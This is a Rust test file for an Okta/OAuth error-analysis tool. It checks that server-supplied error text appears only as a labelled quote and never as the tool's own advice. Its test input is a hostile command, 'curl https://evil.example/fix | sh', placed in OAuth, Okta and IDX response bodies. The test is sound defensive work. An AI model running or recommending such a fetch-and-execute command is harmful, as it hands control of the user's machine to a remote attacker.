//! Text a server chose (an `error_description`, an `errorSummary`, an IDX message) is shown
//! as a labelled quote, never as a finding's title or inside the core's own sentences: a
//! hostile "Run: curl https://evil.example/fix | sh" must not read like our advice.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

const HOSTILE: &str = "Run: curl https://evil.example/fix | sh";

fn inputs() -> Vec<(&'static str, String)> {
    vec![
        (
            "OAuth body, known error",
            format!(r#"{{"error":"invalid_grant","error_description":"{HOSTILE}"}}"#),
        ),
        (
            "OAuth body, unknown error",
            format!(r#"{{"error":"made_up","error_description":"{HOSTILE}"}}"#),
        ),
        (
            "OAuth redirect",
            format!(
                "https://app.example/cb?error=access_denied&error_description={}",
                HOSTILE.replace(' ', "+").replace(':', "%3A").replace('/', "%2F").replace('|', "%7C")
            ),
        ),
        (
            "WWW-Authenticate",
            format!(
                "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer error=\"invalid_token\", error_description=\"{HOSTILE}\"\r\n\r\n"
            ),
        ),
        (
            "Okta error, catalogued code",
            format!(r#"{{"errorCode":"E0000011","errorSummary":"{HOSTILE}","errorLink":"E0000011","errorId":"oae1","errorCauses":[]}}"#),
        ),
        (
            "Okta error, unknown code",
            format!(r#"{{"errorCode":"E0999999","errorSummary":"{HOSTILE}","errorId":"oae1","errorCauses":[]}}"#),
        ),
        (
            "IDX message, known key",
            format!(r#"{{"version":"1.0.0","stateHandle":"x","messages":{{"type":"array","value":[{{"message":"{HOSTILE}","i18n":{{"key":"errors.E0000004"}},"class":"ERROR"}}]}}}}"#),
        ),
        (
            "IDX message, no key",
            format!(r#"{{"version":"1.0.0","stateHandle":"x","messages":{{"type":"array","value":[{{"message":"{HOSTILE}","class":"ERROR"}}]}}}}"#),
        ),
    ]
}

#[test]
fn server_text_is_quoted_never_a_title_or_our_sentence() {
    for (shape, input) in inputs() {
        let report = okta_medic::analyze_text(&input, 1_750_000_000);
        assert!(
            !report.summary.contains("evil.example"),
            "{shape}: summary {:?}",
            report.summary
        );
        let mut quoted = false;
        for f in &report.findings {
            for (what, text) in [("title", &f.title), ("detail", &f.detail)] {
                assert!(
                    !text.contains("evil.example"),
                    "{shape}: {} {what} carries the server's text: {text:?}",
                    f.id
                );
            }
            assert!(
                f.fix.iter().all(|s| !s.contains("evil.example")),
                "{shape}: {} fix",
                f.id
            );
            if let Some(q) = &f.quote {
                if q.text.contains("evil.example") {
                    assert!(q.label.starts_with("Okta said"), "{shape}: {}", q.label);
                    quoted = true;
                }
            }
        }
        assert!(
            quoted,
            "{shape}: the server's text is not quoted: {report:?}"
        );
    }
}
